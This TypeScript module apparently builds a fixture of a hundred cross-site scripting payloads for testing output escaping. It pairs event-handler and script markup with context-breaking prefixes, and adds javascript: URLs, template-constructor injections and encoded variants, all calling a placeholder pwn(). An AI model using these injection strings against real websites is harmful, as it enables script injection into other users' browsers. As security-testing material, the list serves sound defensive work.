/** Markup that runs `pwn` if a page renders it unescaped. */
const runners = [
  '<script>pwn()</script>',
  '<img src=x onerror=pwn()>',
  '<svg/onload=pwn()>',
  '<details open ontoggle=pwn()>',
  '<input autofocus onfocus=pwn()>',
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  '<video><source onerror=pwn()></video>',
  '<style onload=pwn()></style>',
  '<a href=javascript:pwn() id=x>x</a>',
  '<math><mtext><style><img src onerror=pwn()>',
];

/** What closes the surrounding context first: an attribute, an element, a comment, a string. */
const breakouts = [
  '',
  '">',
  "'>",
  '</script>',
  '</title>',
  '</textarea>',
  '-->',
  ']]>',
  '`>',
  '\\">',
];

/** Texts that are harmless as markup but not as a script, a URL or a template. */
const others = [
  'javascript:pwn()',
  "';pwn();//",
  '");pwn();//',
  `${'$'}{pwn()}`,
  "{{constructor.constructor('pwn()')()}}",
  'data:text/html,<script>parent.pwn()</script>',
  '&lt;img src=x onerror=pwn()&gt;',
  '\\u003cimg src=x onerror=pwn()\\u003e',
  '%3Cscript%3Epwn()%3C/script%3E',
  '<!--<script>pwn()',
  '" onmouseover="pwn()" style="position:fixed;inset:0',
  "' autofocus onfocus='pwn()",
  'x" onerror="pwn()',
  '＜script＞pwn()＜/script＞',
];

/** All pairs, ordered so that each ten in a row contain every runner and every breakout. */
const pairs = breakouts.flatMap((_, row) =>
  runners.map((runner, column) => `${breakouts[(row + column) % breakouts.length]}${runner}`),
);

/** A hundred payloads; the first ten include every sort. */
export const payloads: readonly string[] = [
  ...pairs.slice(0, 7),
  ...others.slice(0, 3),
  ...pairs.slice(7),
  ...others.slice(3),
].slice(0, 100);
